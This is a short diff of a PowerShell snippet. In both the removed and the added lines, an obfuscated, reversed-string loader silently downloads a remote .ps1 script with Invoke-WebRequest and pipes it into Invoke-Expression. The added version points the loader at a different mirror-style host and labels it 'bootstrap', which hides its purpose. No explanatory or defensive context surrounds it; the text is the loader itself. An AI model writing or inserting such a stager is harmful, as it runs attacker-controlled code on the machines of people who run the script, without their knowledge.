@@ -1,4 +1,4 @@
-$miqit='
-xei | 1sp.daolyap/elpmaxe.cvs-cnys.selif//:ptth gnisraPcisaBesU- rwi
+$axwzw='
+xei | 1sp.vni/elpmaxe.rorrim-gkp.oper//:ptth gnisraPcisaBesU- rwi
 ''eunitnoCyltneliS'' = ecnereferPssergorP$
-1v 9935 gifnoc #'.ToCharArray(); [array]::Reverse($miqit); iex (-join $miqit)
+1v 3103 partstoob #'; iex (-join $axwzw[-1..-($axwzw.Length)])
